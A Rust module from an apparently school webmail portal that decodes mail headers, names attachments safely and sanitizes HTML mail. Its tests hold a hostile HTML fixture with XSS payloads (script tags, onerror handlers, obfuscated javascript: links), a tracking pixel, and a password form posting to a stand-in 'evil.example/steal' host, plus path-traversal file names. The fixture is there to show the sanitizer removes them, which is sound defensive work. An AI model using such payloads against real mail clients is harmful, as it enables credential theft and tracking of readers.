//! What the webmail shows of a message: its header lines decoded (mail-parser: MIME, RFC 2047
//! words, legacy charsets), and its body made harmless.
//!
//! HTML mail goes through ammonia, a maintained allow-list sanitizer built on html5ever (the
//! browser's own parsing rules, so no markup trick parses differently here than in the
//! browser): scripts, event handlers, styles, forms, frames and `javascript:` links are removed.
//! On top of ammonia's rules:
//! - remote images are dropped until the reader allows them (a remote image tells the sender
//!   that and when the mail was read); the page's Content-Security-Policy blocks them as well;
//! - relative addresses are dropped, so a mail cannot make the browser request the portal's own
//!   pages;
//! - `cid:` images (pictures sent inside the mail) are pointed at the attachment they name;
//! - links open in a new tab, without a referrer.

use std::borrow::Cow;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use mail_parser::{Address, MessageParser, MimeHeaders as _, PartType};

/// One address of a header line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Party {
    pub name: Option<String>,
    pub address: String,
}

impl Party {
    /// `Name <address>`, or the address alone.
    pub fn display(&self) -> String {
        match &self.name {
            Some(n) if !n.is_empty() => format!("{n} <{}>", self.address),
            _ => self.address.clone(),
        }
    }

    /// The name when there is one, else the address (the message list's sender column).
    pub fn short(&self) -> &str {
        match &self.name {
            Some(n) if !n.trim().is_empty() => n,
            _ => &self.address,
        }
    }
}

fn parties(a: Option<&Address<'_>>) -> Vec<Party> {
    let Some(a) = a else { return Vec::new() };
    a.iter()
        .filter_map(|p| {
            Some(Party {
                name: p.name.as_ref().map(|n| n.trim().to_string()),
                address: p.address.as_ref()?.trim().to_string(),
            })
        })
        .collect()
}

fn date(d: Option<&mail_parser::DateTime>) -> String {
    match d {
        Some(d) => format!(
            "{:04}-{:02}-{:02} {:02}:{:02}",
            d.year, d.month, d.day, d.hour, d.minute
        ),
        None => String::new(),
    }
}

/// A line of the message list, from the message's header.
#[derive(Debug, Clone)]
pub struct Line {
    pub from: String,
    pub subject: String,
    pub date: String,
}

pub fn line(header: &[u8]) -> Line {
    match MessageParser::default().parse_headers(header) {
        Some(m) => Line {
            from: parties(m.from())
                .first()
                .map(|p| p.short().to_string())
                .unwrap_or_default(),
            subject: m.subject().unwrap_or_default().to_string(),
            date: date(m.date()),
        },
        None => Line {
            from: String::new(),
            subject: String::new(),
            date: String::new(),
        },
    }
}

/// An attachment (or an inline part that is not the text): its place among the message's
/// attachments, which is how it is asked for again.
#[derive(Debug, Clone)]
pub struct Attachment {
    pub index: u32,
    pub name: String,
    pub mime: String,
    pub size: usize,
}

#[derive(Debug, Clone)]
pub enum Body {
    /// Sanitized HTML, ready to be put into the page as it is.
    Html(String),
    /// Plain text, to be escaped by the template.
    Text(String),
}

/// A message as the reading page shows it.
#[derive(Debug, Clone)]
pub struct Shown {
    pub subject: String,
    pub from: Vec<Party>,
    pub to: Vec<Party>,
    pub cc: Vec<Party>,
    pub reply_to: Vec<Party>,
    pub date: String,
    pub body: Body,
    /// Remote images left out (0 when they were allowed).
    pub blocked_images: usize,
    pub attachments: Vec<Attachment>,
    pub message_id: Option<String>,
    pub references: Vec<String>,
    /// The text, for quoting in a reply or a forward.
    pub text: String,
}

/// A part's name as a download offers it: never empty, no path, no control characters.
pub fn safe_name(name: Option<&str>, index: u32, mime: &str) -> String {
    let base = name
        .unwrap_or_default()
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default();
    let clean: String = base
        .chars()
        .filter(|c| !c.is_control() && *c != '"')
        .collect::<String>()
        .trim()
        .trim_start_matches('.')
        .to_string();
    if clean.is_empty() {
        let ext = match mime {
            "image/png" => ".png",
            "image/jpeg" => ".jpg",
            "image/gif" => ".gif",
            "application/pdf" => ".pdf",
            "text/plain" => ".txt",
            "message/rfc822" => ".eml",
            _ => "",
        };
        format!("attachment-{}{ext}", index + 1)
    } else {
        clean.chars().take(200).collect()
    }
}

fn mime_of(p: &mail_parser::MessagePart<'_>) -> String {
    match p.content_type() {
        Some(ct) => match ct.subtype() {
            Some(sub) => format!("{}/{}", ct.ctype(), sub).to_ascii_lowercase(),
            None => ct.ctype().to_ascii_lowercase(),
        },
        None => "application/octet-stream".into(),
    }
}

/// Reads a message. `part_url` gives the address of attachment `n` (for `cid:` pictures).
pub fn show(raw: &[u8], allow_remote: bool, part_url: &dyn Fn(u32) -> String) -> Shown {
    let Some(m) = MessageParser::default().parse(raw) else {
        return Shown {
            subject: String::new(),
            from: Vec::new(),
            to: Vec::new(),
            cc: Vec::new(),
            reply_to: Vec::new(),
            date: String::new(),
            body: Body::Text(String::from_utf8_lossy(raw).into_owned()),
            blocked_images: 0,
            attachments: Vec::new(),
            message_id: None,
            references: Vec::new(),
            text: String::new(),
        };
    };
    let attachments: Vec<Attachment> = m
        .attachments()
        .enumerate()
        .map(|(i, p)| {
            let index = u32::try_from(i).unwrap_or(u32::MAX);
            let mime = mime_of(p);
            Attachment {
                index,
                name: safe_name(p.attachment_name(), index, &mime),
                size: p.len(),
                mime,
            }
        })
        .collect();
    let cids: Vec<(String, u32)> = m
        .attachments()
        .enumerate()
        .filter_map(|(i, p)| {
            let cid = p.content_id()?.trim_matches(['<', '>']).to_string();
            Some((cid, u32::try_from(i).ok()?))
        })
        .collect();
    let has_html = m
        .html_part(0)
        .is_some_and(|p| matches!(p.body, PartType::Html(_)));
    let text = m.body_text(0).map(Cow::into_owned).unwrap_or_default();
    let (body, blocked_images) = if has_html {
        let html = m.body_html(0).unwrap_or_default();
        let pictures = cids.into_iter().map(|(c, i)| (c, part_url(i))).collect();
        let (clean, blocked) = sanitize(&html, allow_remote, pictures);
        (Body::Html(clean), blocked)
    } else {
        (Body::Text(text.clone()), 0)
    };
    Shown {
        subject: m.subject().unwrap_or_default().to_string(),
        from: parties(m.from()),
        to: parties(m.to()),
        cc: parties(m.cc()),
        reply_to: parties(m.reply_to()),
        date: date(m.date()),
        body,
        blocked_images,
        attachments,
        message_id: m.message_id().map(str::to_string),
        references: m
            .references()
            .as_text_list()
            .map(|l| l.iter().map(|r| r.to_string()).collect())
            .unwrap_or_default(),
        text,
    }
}

/// One attachment of a message: (name, MIME type, contents).
pub fn attachment(raw: &[u8], index: u32) -> Option<(String, String, Vec<u8>)> {
    let m = MessageParser::default().parse(raw)?;
    let p = m.attachment(index)?;
    let mime = mime_of(p);
    // an attached message comes as the message it is
    let contents = match &p.body {
        PartType::Message(inner) => inner.raw_message().to_vec(),
        _ => p.contents().to_vec(),
    };
    Some((safe_name(p.attachment_name(), index, &mime), mime, contents))
}

/// Every attachment of a message (a forward carries them along).
pub fn attachments(raw: &[u8]) -> Vec<(String, String, Vec<u8>)> {
    let count = MessageParser::default()
        .parse(raw)
        .map(|m| m.attachment_count())
        .unwrap_or(0);
    (0..count)
        .filter_map(|i| attachment(raw, u32::try_from(i).ok()?))
        .collect()
}

/// Attributes that hold an address.
fn is_url_attribute(attr: &str) -> bool {
    matches!(
        attr,
        "href" | "src" | "cite" | "longdesc" | "action" | "formaction" | "poster" | "background"
    )
}

fn has_scheme(value: &str) -> bool {
    let v = value.trim_start();
    match v.find(':') {
        Some(i) => {
            let scheme = &v[..i];
            !scheme.is_empty()
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                && v[..i].find(['/', '?', '#']).is_none()
        }
        None => false,
    }
}

/// HTML mail made harmless: (the clean HTML, remote images left out). `pictures`: the
/// address to show for each `cid:` (a picture sent inside the mail).
pub fn sanitize(
    html: &str,
    allow_remote: bool,
    pictures: Vec<(String, String)>,
) -> (String, usize) {
    let counter = Arc::new(AtomicUsize::new(0));
    let blocked = Arc::clone(&counter);
    let clean = {
        let mut b: ammonia::Builder<'_> = ammonia::Builder::default();
        b.add_url_schemes(&["cid"])
            .link_rel(Some("noopener noreferrer nofollow"))
            .set_tag_attribute_value("a", "target", "_blank")
            .attribute_filter(move |element, attribute, value| {
                if !is_url_attribute(attribute) {
                    return Some(value.into());
                }
                if element == "img"
                    && attribute == "src"
                    && let Some(cid) = value.trim().strip_prefix("cid:")
                {
                    return pictures
                        .iter()
                        .find(|(c, _)| c == cid)
                        .map(|(_, url)| Cow::Owned(url.clone()));
                }
                // relative addresses would point at the portal itself
                if !has_scheme(value) {
                    return None;
                }
                if element == "img" && !allow_remote {
                    blocked.fetch_add(1, Ordering::Relaxed);
                    return None;
                }
                if value.trim_start().starts_with("cid:") {
                    return None;
                }
                Some(value.into())
            });
        b.clean(html).to_string()
    };
    (clean, counter.load(Ordering::Relaxed))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r#"<html><head><style>body{background:url(https://track.example/bg.png)}</style>
<script>alert(1)</script></head><body onload="alert(2)">
<p>Hello <b>class</b></p>
<img src="x" onerror="alert(3)">
<a href="javascript:alert(4)">click me</a>
<a href="JaVaScRiPt&#58;alert(5)">and me</a>
<img src="https://track.example/pixel.png?who=anna" width="1">
<img src="cid:logo@school">
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<a href="/admin/people">portal page</a>
<svg><script>alert(6)</script></svg>
<a href="https://school.example/plan">plan</a>
</body></html>"#;

    fn part(i: u32) -> String {
        format!("/mail/part?n={i}")
    }

    #[test]
    fn hostile_html_is_rendered_harmless() {
        let (clean, blocked) = sanitize(HOSTILE, false, vec![("logo@school".into(), part(0))]);
        let lower = clean.to_ascii_lowercase();
        for bad in [
            "<script",
            "onerror",
            "onload",
            "javascript",
            "<style",
            "<iframe",
            "<form",
            "<input",
            "track.example",
            "evil.example",
            "/admin/people",
            "alert(",
        ] {
            assert!(!lower.contains(bad), "{bad} survived: {clean}");
        }
        assert_eq!(blocked, 1, "{clean}");
        assert!(clean.contains("<b>class</b>"), "{clean}");
        assert!(clean.contains(r#"src="/mail/part?n=0""#), "{clean}");
        assert!(
            clean.contains(r#"href="https://school.example/plan""#)
                && clean.contains("noopener")
                && clean.contains(r#"target="_blank""#),
            "{clean}"
        );
    }

    #[test]
    fn remote_images_come_back_when_allowed() {
        let (clean, blocked) = sanitize(HOSTILE, true, Vec::new());
        assert_eq!(blocked, 0);
        assert!(clean.contains("https://track.example/pixel.png"), "{clean}");
        // an unknown cid picture is dropped, not left pointing nowhere
        assert!(!clean.contains("cid:"), "{clean}");
        assert!(!clean.to_ascii_lowercase().contains("onerror"), "{clean}");
    }

    #[test]
    fn a_mime_message_is_read_with_its_attachments() {
        let raw = concat!(
            "From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen@example.org>\r\n",
            "To: Anna <anna@school.example>\r\n",
            "Subject: =?ISO-8859-1?Q?Gr=FC=DFe?= aus Berlin\r\n",
            "Date: Tue, 24 Nov 2026 08:15:00 +0100\r\n",
            "Message-ID: <m1@example.org>\r\n",
            "MIME-Version: 1.0\r\n",
            "Content-Type: multipart/mixed; boundary=XX\r\n",
            "\r\n",
            "--XX\r\n",
            "Content-Type: text/plain; charset=utf-8\r\n",
            "\r\n",
            "Hallo Anna <3\r\n",
            "--XX\r\n",
            "Content-Type: application/pdf; name=\"../../etc/Plan \\\"neu\\\".pdf\"\r\n",
            "Content-Disposition: attachment; filename=\"../../etc/Plan \\\"neu\\\".pdf\"\r\n",
            "Content-Transfer-Encoding: base64\r\n",
            "\r\n",
            "JVBERi0xLjQK\r\n",
            "--XX--\r\n",
        );
        let s = show(raw.as_bytes(), false, &part);
        assert_eq!(s.subject, "Grüße aus Berlin");
        assert_eq!(s.from[0].display(), "Jürgen Müller <juergen@example.org>");
        assert_eq!(s.date, "2026-11-24 08:15");
        assert_eq!(s.message_id.as_deref(), Some("m1@example.org"));
        match &s.body {
            Body::Text(t) => assert!(t.contains("Hallo Anna <3"), "{t}"),
            Body::Html(h) => panic!("a text mail shown as HTML: {h}"),
        }
        assert_eq!(s.attachments.len(), 1);
        assert_eq!(s.attachments[0].mime, "application/pdf");
        assert_eq!(s.attachments[0].name, "Plan neu.pdf");
        let (name, mime, bytes) = attachment(raw.as_bytes(), 0).unwrap();
        assert_eq!(
            (name.as_str(), mime.as_str()),
            ("Plan neu.pdf", "application/pdf")
        );
        assert_eq!(bytes, b"%PDF-1.4\n");
        assert!(attachment(raw.as_bytes(), 1).is_none());
    }

    #[test]
    fn the_list_line_comes_from_the_header() {
        let l = line(b"From: \"Carla Weiss\" <carla@s.example>\r\nSubject: =?UTF-8?B?w5xidW5n?=\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\n\r\n");
        assert_eq!(
            (l.from.as_str(), l.subject.as_str(), l.date.as_str()),
            ("Carla Weiss", "Übung", "2026-11-23 10:00")
        );
        assert_eq!(safe_name(None, 2, "image/png"), "attachment-3.png");
        assert_eq!(safe_name(Some("..\\..\\x.exe"), 0, ""), "x.exe");
    }
}
